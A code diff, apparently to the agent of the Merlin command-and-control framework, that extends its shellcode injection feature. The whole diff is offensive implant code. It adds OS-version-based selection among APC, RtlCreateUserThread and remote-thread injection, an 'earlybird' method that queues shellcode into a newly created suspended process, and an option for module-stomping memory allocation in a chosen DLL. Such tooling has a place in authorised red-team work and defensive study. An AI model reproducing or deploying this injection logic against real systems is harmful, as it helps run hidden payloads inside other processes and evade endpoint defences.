@@ -24,14 +24,34 @@ import (
 	// Standard
 	"encoding/base64"
 	"fmt"
+	"strings"
 
 	// Merlin Main
 	"github.com/Ne0nd0g/merlin-message/jobs"
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	merlinOS "github.com/Ne0nd0g/merlin-agent/v2/os"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/capability"
 )
 
+func init() {
+	// Shellcode injection variants in order of preference for the "auto" method
+	capability.Register("shellcode",
+		// Windows 11 24H2 and later
+		capability.Variant{Name: "userapc", Supported: func(v merlinOS.Version) bool {
+			return v.Platform == "windows" && v.AtLeast(10, 0, 26100)
+		}},
+		// Windows Vista and later
+		capability.Variant{Name: "rtlcreateuserthread", Supported: func(v merlinOS.Version) bool {
+			return v.Platform == "windows" && v.AtLeast(6, 0, 0)
+		}},
+		capability.Variant{Name: "remote", Supported: func(v merlinOS.Version) bool {
+			return v.Platform == "windows"
+		}},
+	)
+}
+
 // ExecuteShellcode instructs the agent to load and run shellcode according to the input job
 func ExecuteShellcode(cmd jobs.Shellcode) jobs.Results {
 	var results jobs.Results
@@ -49,24 +69,54 @@ func ExecuteShellcode(cmd jobs.Shellcode) jobs.Results {
 	cli.Message(cli.INFO, fmt.Sprintf("Shelcode execution method: %s, size: %d", cmd.Method, len(shellcodeBytes)))
 	cli.Message(cli.DEBUG, fmt.Sprintf("Shellcode %x", shellcodeBytes))
 
-	switch cmd.Method {
+	// The method can select the memory allocation backend for the injected shellcode as <method>[:<allocator>[:<dll>]]
+	// (e.g., remote:stomp:xpsservices.dll); the private allocator is used when one isn't provided
+	method, allocator, _ := strings.Cut(cmd.Method, ":")
+
+	// The auto method selects the injection variant for this operating system version and reports it in the results
+	var report string
+	if method == "auto" {
+		variant, version, err := capability.Select("shellcode")
+		if err != nil {
+			results.Stderr = err.Error()
+			cli.Message(cli.WARN, results.Stderr)
+			return results
+		}
+		method = variant
+		report = capability.Report("shellcode", variant, version)
+		cli.Message(cli.NOTE, report)
+	}
+
+	switch method {
 	case "self":
-		err := ExecuteShellcodeSelf(shellcodeBytes)
+		err := ExecuteShellcodeSelf(shellcodeBytes, allocator)
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error executing shellcode with the \"self\" method:\r\n%s", err)
 		}
 	case "remote":
-		err := ExecuteShellcodeRemote(shellcodeBytes, cmd.PID)
+		err := ExecuteShellcodeRemote(shellcodeBytes, cmd.PID, allocator)
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error executing shellcode with the \"remote\" method:\r\n%s", err)
 		}
 	case "rtlcreateuserthread":
-		err := ExecuteShellcodeRtlCreateUserThread(shellcodeBytes, cmd.PID)
+		err := ExecuteShellcodeRtlCreateUserThread(shellcodeBytes, cmd.PID, allocator)
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error executing shellcode with the \"rtlcreateuserthread\" method:\r\n%s", err)
 		}
+	case "earlybird":
+		// The suspended process's loader hasn't run yet so there isn't a loaded DLL to stomp
+		if allocator != "" && allocator != "private" {
+			results.Stderr = fmt.Sprintf("the %s allocator is not supported by the \"earlybird\" method", allocator)
+			break
+		}
+		pid, err := ExecuteShellcodeEarlyBird(shellcodeBytes, cmd.PID)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error executing shellcode with the \"earlybird\" method:\r\n%s", err)
+		} else {
+			report += fmt.Sprintf("Created suspended process %d and queued the shellcode to its first thread\n", pid)
+		}
 	case "userapc":
-		err := ExecuteShellcodeQueueUserAPC(shellcodeBytes, cmd.PID)
+		err := ExecuteShellcodeQueueUserAPC(shellcodeBytes, cmd.PID, allocator)
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error executing shellcode with the \"userapc\" method:\r\n%s", err)
 		}
@@ -74,7 +124,9 @@ func ExecuteShellcode(cmd jobs.Shellcode) jobs.Results {
 		results.Stderr = fmt.Sprintf("invalid shellcode execution method: %s", cmd.Method)
 	}
 	if results.Stderr == "" {
-		results.Stdout = fmt.Sprintf("Shellcode %s method successfully executed", cmd.Method)
+		results.Stdout = report + fmt.Sprintf("Shellcode %s method successfully executed", method)
+	} else {
+		results.Stdout = report
 	}
 
 	if results.Stderr == "" {